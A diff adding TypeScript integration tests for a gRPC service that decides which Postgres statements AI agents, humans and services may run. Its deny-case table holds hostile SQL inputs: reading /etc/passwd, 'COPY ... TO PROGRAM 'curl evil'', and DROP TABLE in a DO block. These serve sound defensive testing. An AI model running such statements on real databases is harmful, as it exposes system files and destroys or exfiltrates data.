@@ -1,0 +1,358 @@
+import assert from 'node:assert/strict';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { credentials, loadPackageDefinition, status as GrpcStatus, type ClientReadableStream, type ServiceError } from '@grpc/grpc-js';
+import { loadSync } from '@grpc/proto-loader';
+import { PROTO_LOADER_OPTIONS, PROTO_ROOT, SERVICE_PROTOS, policyV1 } from '@tracegate/contracts';
+import { PostgresEventLog, TOPICS, verifyChain, type CloudEvent } from '@tracegate/events';
+import { ConfigError, startServices, type RunningProcess } from '@tracegate/runtime';
+import { freePort, pollUntil, startPostgres } from '@tracegate/test-harness';
+import { policyService } from './policy.definition.js';
+
+const { Effect, IdentityKind, Protocol } = policyV1;
+
+type Callback<T> = (error: ServiceError | null, response?: T) => void;
+interface PolicyClient {
+  decide(request: unknown, callback: Callback<policyV1.DecideResponse>): void;
+  explain(request: unknown, callback: Callback<policyV1.ExplainResponse>): void;
+  watchPolicyVersions(request: unknown): ClientReadableStream<policyV1.WatchPolicyVersionsResponse>;
+  close(): void;
+}
+
+function policyClient(address: string): PolicyClient {
+  const definition = loadSync(SERVICE_PROTOS.policy.files[0], { ...PROTO_LOADER_OPTIONS, includeDirs: [PROTO_ROOT] });
+  const loaded = loadPackageDefinition(definition) as unknown as {
+    tracegate: { policy: { v1: { PolicyService: new (address: string, creds: ReturnType<typeof credentials.createInsecure>) => PolicyClient } } };
+  };
+  return new loaded.tracegate.policy.v1.PolicyService(address, credentials.createInsecure());
+}
+
+function call<T>(method: (request: unknown, callback: Callback<T>) => void, request: unknown): Promise<T> {
+  return new Promise((resolve, reject) => method(request, (error, response) => (error ? reject(error) : resolve(response as T))));
+}
+
+function request(kind: policyV1.IdentityKind, text: string, extra: { groups?: string[]; target?: string; labels?: Record<string, string> } = {}) {
+  return {
+    identity: { id: `${IdentityKind[kind]}-1`, kind, groups: extra.groups ?? [] },
+    target: { name: extra.target ?? 'billing', type: 'postgres', labels: extra.labels ?? {} },
+    command: { protocol: Protocol.PROTOCOL_POSTGRES, text, fingerprint: '', inMultiStatement: false },
+  };
+}
+
+const AGENT = IdentityKind.IDENTITY_KIND_AGENT;
+const HUMAN = IdentityKind.IDENTITY_KIND_HUMAN;
+const SERVICE = IdentityKind.IDENTITY_KIND_SERVICE;
+
+const FILE_POLICY = `# a policy given by TRACEGATE_POLICY_FILE
+version: 1
+default: { agent: deny, human: deny, service: deny }
+rules:
+  - name: ci-reads-analytics
+    priority: 20
+    match:
+      identity: { kind: [service], groups: [ci] }
+      target: { name: ['analytics-*'] }
+      statement: { kind: [select] }
+    effect: allow
+    masking_profile: pii
+  - name: humans-write-with-review
+    priority: 10
+    match:
+      identity: { kind: [human] }
+      statement: { kind: [insert, update, delete] }
+    effect: review
+    reason: writes need two approvals from the data team
+    review: { group: data-team, quorum: 2, timeout_seconds: 600 }
+`;
+
+const CHANGED_POLICY = FILE_POLICY.replace('agent: deny, human: deny', 'agent: allow, human: deny');
+const THIRD_POLICY = CHANGED_POLICY.replace('service: deny', 'service: allow');
+
+describe('policy service over gRPC', () => {
+  let postgres: Awaited<ReturnType<typeof startPostgres>>;
+  let databaseUrl: string;
+  let directory: string;
+
+  async function start(env: Record<string, string> = {}): Promise<{ proc: RunningProcess; client: PolicyClient }> {
+    const grpcPort = String(await freePort());
+    const proc = await startServices([policyService], {
+      component: 'tracegate policy',
+      databaseUrl,
+      env: { TRACEGATE_POLICY_GRPC_PORT: grpcPort, TRACEGATE_POLICY_METRICS_PORT: String(await freePort()), TRACEGATE_LOG_LEVEL: 'silent', ...env },
+    });
+    return { proc, client: policyClient(`127.0.0.1:${grpcPort}`) };
+  }
+
+  async function policyEvents(): Promise<CloudEvent[]> {
+    const reader = await PostgresEventLog.connect(databaseUrl);
+    const seen: CloudEvent[] = [];
+    try {
+      const subscription = await reader.subscribe({
+        group: `policy-test-${Math.random()}`,
+        topics: [TOPICS.policy.name],
+        handler: async (delivery) => {
+          seen.push(delivery.event);
+        },
+      });
+      // Appends are acknowledged before start() returns: the newest event was written last.
+      const written = await countPolicyEvents();
+      await pollUntil(() => seen.length >= written, { description: `${written} policy events` });
+      await subscription.stop();
+    } finally {
+      await reader.close();
+    }
+    return seen;
+  }
+
+  async function countPolicyEvents(): Promise<number> {
+    const { default: pg } = await import('pg');
+    const client = new pg.Client({ connectionString: databaseUrl });
+    await client.connect();
+    try {
+      const { rows } = await client.query<{ sequence: string }>(`SELECT sequence FROM policy.activation_chain`);
+      return Number(rows[0]?.sequence ?? 0);
+    } finally {
+      await client.end();
+    }
+  }
+
+  before(async () => {
+    postgres = await startPostgres();
+    databaseUrl = await postgres.createDatabase();
+    directory = await mkdtemp(join(tmpdir(), 'tracegate-policy-'));
+  });
+
+  after(async () => {
+    await postgres.stop();
+    await rm(directory, { recursive: true, force: true });
+  });
+
+  describe('with the built-in policy', () => {
+    let running: Awaited<ReturnType<typeof start>>;
+    before(async () => {
+      running = await start();
+    });
+    after(async () => {
+      running.client.close();
+      await running.proc.stop();
+    });
+    const decide = (r: unknown) => call(running.client.decide.bind(running.client), r);
+
+    it('allows an agent to read, and returns the analysis and what the decision depended on', async () => {
+      const response = await decide(request(AGENT, 'SELECT * FROM public.invoices i JOIN customers c ON c.id = i.customer_id'));
+      assert.equal(response.effect, Effect.EFFECT_ALLOW);
+      assert.equal(response.rule, 'agents-read');
+      assert.match(response.policyVersion, /^sha256:[0-9a-f]{64}$/);
+      assert.deepEqual(
+        { kind: response.statement?.kind, reads: response.statement?.reads, writes: response.statement?.writes, opaque: response.statement?.opaque },
+        { kind: 'select', reads: ['customers', 'public.invoices'], writes: [], opaque: false },
+      );
+      assert.deepEqual(response.dependsOn, [
+        'command.fingerprint',
+        'identity.kind',
+        'statement.flags',
+        'statement.has_where',
+        'statement.kind',
+        'statement.opaque',
+      ]);
+    });
+
+    it('denies an agent an unfiltered DELETE hidden in a CTE, with the reason it sees', async () => {
+      const response = await decide(request(AGENT, 'with d as (/* tidy */ DELETE FROM invoices returning *) select * from d'));
+      assert.equal(response.effect, Effect.EFFECT_DENY);
+      assert.equal(response.rule, 'agents-no-unfiltered-writes');
+      assert.equal(response.reason, 'agents may not UPDATE or DELETE without a WHERE clause that filters on a column');
+      assert.equal(response.statement?.kind, 'delete');
+      assert.equal(response.statement?.hasWhere, false);
+      assert.deepEqual(response.statement?.flags, ['data_modifying_cte']);
+    });
+
+    it('holds an agent write for review by the dba group', async () => {
+      const response = await decide(request(AGENT, 'UPDATE invoices SET paid = true WHERE id = 42'));
+      assert.equal(response.effect, Effect.EFFECT_REVIEW);
+      assert.equal(response.rule, 'agents-writes-need-review');
+      assert.deepEqual(response.review, { reviewerGroup: 'dba', quorum: 1, timeoutSeconds: 900 });
+    });
+
+    it('denies opaque and dangerous statements to agents; allows humans; denies services by default', async () => {
+      const cases: [policyV1.IdentityKind, string, policyV1.Effect, string][] = [
+        [AGENT, "DO $$ BEGIN EXECUTE 'DROP TABLE invoices'; END $$", Effect.EFFECT_DENY, 'agents-no-opaque-statements'],
+        [AGENT, "SELECT pg_read_file('/etc/passwd')", Effect.EFFECT_DENY, 'agents-no-server-access'],
+        [AGENT, "COPY invoices TO PROGRAM 'curl evil'", Effect.EFFECT_DENY, 'agents-no-server-access'],
+        [AGENT, 'SET ROLE postgres', Effect.EFFECT_DENY, 'agents-no-server-access'],
+        [AGENT, 'DROP TABLE invoices', Effect.EFFECT_DENY, 'agents-no-schema-or-privilege-changes'],
+        [HUMAN, 'DROP TABLE invoices', Effect.EFFECT_ALLOW, 'default'],
+        [HUMAN, 'DO $$ BEGIN END $$', Effect.EFFECT_ALLOW, 'humans-may-run-opaque-statements'],
+        [SERVICE, 'SELECT 1', Effect.EFFECT_DENY, 'default'],
+      ];
+      for (const [kind, text, effect, rule] of cases) {
+        const response = await decide(request(kind, text));
+        assert.deepEqual([response.effect, response.rule], [effect, rule], text);
+      }
+    });
+
+    it('refuses a request without identity or statement with INVALID_ARGUMENT and a sentence', async () => {
+      const invalid: [unknown, RegExp][] = [
+        [{ ...request(AGENT, 'SELECT 1'), identity: undefined }, /^identity is required: say who runs the statement/],
+        [request(IdentityKind.IDENTITY_KIND_UNSPECIFIED, 'SELECT 1'), /^identity\.kind is required: agent, human or service/],
+        [request(AGENT, '   '), /^command\.text is empty: send the statement to decide$/],
+        [{ ...request(AGENT, 'SELECT 1'), command: undefined }, /^command is required/],
+      ];
+      for (const [given, message] of invalid) {
+        await assert.rejects(decide(given), (error: ServiceError) => {
+          assert.equal(error.code, GrpcStatus.INVALID_ARGUMENT);
+          assert.match(error.details, message);
+          return true;
+        });
+      }
+      await assert.rejects(
+        decide({ ...request(AGENT, 'ls'), command: { protocol: Protocol.PROTOCOL_SSH, text: 'ls' } }),
+        (error: ServiceError) => error.code === GrpcStatus.UNIMPLEMENTED && /shell commands are not decided yet/.test(error.details),
+      );
+    });
+
+    it('explains every rule: matched or not, and why', async () => {
+      const response = await call(running.client.explain.bind(running.client), { input: request(AGENT, 'DELETE FROM invoices') });
+      assert.equal(response.decision?.rule, 'agents-no-unfiltered-writes');
+      const byRule = new Map(response.evaluations.map((e) => [e.rule, e]));
+      assert.equal(response.evaluations.length, 7);
+      assert.equal(byRule.get('agents-no-opaque-statements')?.detail, 'the statement is not opaque');
+      assert.equal(byRule.get('agents-no-unfiltered-writes')?.matched, true);
+      assert.equal(byRule.get('agents-no-unfiltered-writes')?.priority, 700);
+      assert.equal(byRule.get('humans-may-run-opaque-statements')?.matched, false);
+    });
+
+    it('streams the version in force', async () => {
+      const stream = running.client.watchPolicyVersions({});
+      const first = await new Promise<policyV1.WatchPolicyVersionsResponse>((resolve, reject) => {
+        stream.once('data', resolve);
+        stream.once('error', reject);
+      });
+      stream.cancel();
+      const decision = await decide(request(SERVICE, 'SELECT 1'));
+      assert.equal(first.version, decision.policyVersion);
+      assert.ok((first.activatedAt?.seconds ?? 0) > 0);
+    });
+
+    it('records the activation on the policy topic', async () => {
+      const events = await policyEvents();
+      assert.equal(events.length, 1);
+      const [event] = events;
+      assert.equal(event!.type, 'dev.tracegate.policy.activated.v1');
+      assert.equal(event!.subject, 'policies/default');
+      assert.equal(event!.sequence, 1);
+      const data = event!.data as Record<string, unknown>;
+      assert.equal(data.source, 'built-in');
+      assert.equal(data.previousVersion, '');
+      assert.ok((data.rules as string[]).includes('agents-read'));
+    });
+  });
+
+  describe('with a policy file from TRACEGATE_POLICY_FILE', () => {
+    let file: string;
+    let running: Awaited<ReturnType<typeof start>>;
+    before(async () => {
+      file = join(directory, 'policy.yaml');
+      await writeFile(file, FILE_POLICY);
+      running = await start({ TRACEGATE_POLICY_FILE: file });
+    });
+    after(async () => {
+      running.client.close();
+      await running.proc.stop();
+    });
+    const decide = (r: unknown) => call(running.client.decide.bind(running.client), r);
+
+    it('decides by the file: allow with a masking profile, review with its group and quorum, explicit defaults', async () => {
+      const allowed = await decide(request(SERVICE, 'SELECT * FROM customers', { groups: ['ci'], target: 'analytics-eu' }));
+      assert.deepEqual([allowed.effect, allowed.rule, allowed.maskingProfile], [Effect.EFFECT_ALLOW, 'ci-reads-analytics', 'pii']);
+      const held = await decide(request(HUMAN, 'DELETE FROM t WHERE id = 1'));
+      assert.deepEqual([held.effect, held.rule, held.reason], [Effect.EFFECT_REVIEW, 'humans-write-with-review', 'writes need two approvals from the data team']);
+      assert.deepEqual(held.review, { reviewerGroup: 'data-team', quorum: 2, timeoutSeconds: 600 });
+      const denied = await decide(request(AGENT, 'SELECT 1'));
+      assert.deepEqual([denied.effect, denied.rule], [Effect.EFFECT_DENY, 'default']);
+      assert.match(denied.reason, /default for agent identities is deny/);
+    });
+
+    it('continues the activation chain across restarts', async () => {
+      const events = await policyEvents();
+      assert.equal(events.length, 2);
+      assert.deepEqual(verifyChain(events), []);
+      assert.equal((events[1]!.data as Record<string, unknown>).source, file);
+      assert.equal((events[1]!.data as Record<string, unknown>).previousVersion, (events[0]!.data as Record<string, unknown>).version);
+    });
+
+    it('puts a changed file in force, and keeps the version in force when the file turns invalid', async () => {
+      const before = (await decide(request(AGENT, 'SELECT 1'))).policyVersion;
+      await writeFile(file, CHANGED_POLICY);
+      const changed = await pollUntil(
+        async () => {
+          const response = await decide(request(AGENT, 'SELECT 1'));
+          return response.policyVersion !== before ? response : undefined;
+        },
+        { description: 'the changed policy file in force' },
+      );
+      assert.deepEqual([changed.effect, changed.rule], [Effect.EFFECT_ALLOW, 'default']);
+      const events = await policyEvents();
+      assert.equal(events.length, 3);
+      assert.deepEqual(verifyChain(events), []);
+
+      // An invalid file is refused as a whole: the version in force stays, and no activation is recorded.
+      await writeFile(file, 'version: 1\ndefault: { agent: maybe }\n');
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      assert.equal((await decide(request(AGENT, 'SELECT 1'))).policyVersion, changed.policyVersion);
+      await writeFile(file, THIRD_POLICY);
+      const third = await pollUntil(
+        async () => {
+          const response = await decide(request(SERVICE, 'SELECT 1'));
+          return response.effect === Effect.EFFECT_ALLOW ? response : undefined;
+        },
+        { description: 'the third policy file in force' },
+      );
+      const versions = (await policyEvents()).map((event) => (event.data as Record<string, unknown>).version);
+      assert.deepEqual(versions.slice(2), [changed.policyVersion, third.policyVersion]);
+    });
+  });
+
+  it('a restart with the version already in force records nothing new', async () => {
+    const file = join(directory, 'same.yaml');
+    await writeFile(file, `# the same policy, laid out differently\n${THIRD_POLICY}`);
+    const first = await start({ TRACEGATE_POLICY_FILE: file });
+    first.client.close();
+    await first.proc.stop();
+    assert.equal((await policyEvents()).length, 4);
+  });
+
+  it('refuses to start with a broken policy file, naming every bad field', async () => {
+    const file = join(directory, 'broken.yaml');
+    await writeFile(
+      file,
+      `version: 1
+default: { agent: deny, human: allow, service: deny }
+rules:
+  - name: reads
+    priority: 10
+    match: { statement: { kind: [selekt] } }
+    effect: allow
+  - name: writes
+    priority: 5
+    effect: block
+`,
+    );
+    await assert.rejects(start({ TRACEGATE_POLICY_FILE: file }), (error: unknown) => {
+      assert.ok(error instanceof ConfigError);
+      assert.equal(
+        error.message,
+        [
+          'tracegate policy cannot start: 1 configuration value is invalid:',
+          `  - TRACEGATE_POLICY_FILE: policy ${file} is invalid (2 problems):`,
+          `      - ${file}:6:34: rules[0] (reads).match.statement.kind[0]: 'selekt' is not one of select, insert, update, delete, merge, truncate, ddl, dcl, copy, transaction, set, show, explain, session, call, do, execute, utility, opaque`,
+          `      - ${file}:10:13: rules[1] (writes).effect: 'block' is not one of allow, deny, review`,
+        ].join('\n'),
+      );
+      return true;
+    });
+    await assert.rejects(start({ TRACEGATE_POLICY_FILE: join(directory, 'missing.yaml') }), /policy file .*missing\.yaml cannot be read \(ENOENT\)/);
+  });
+});
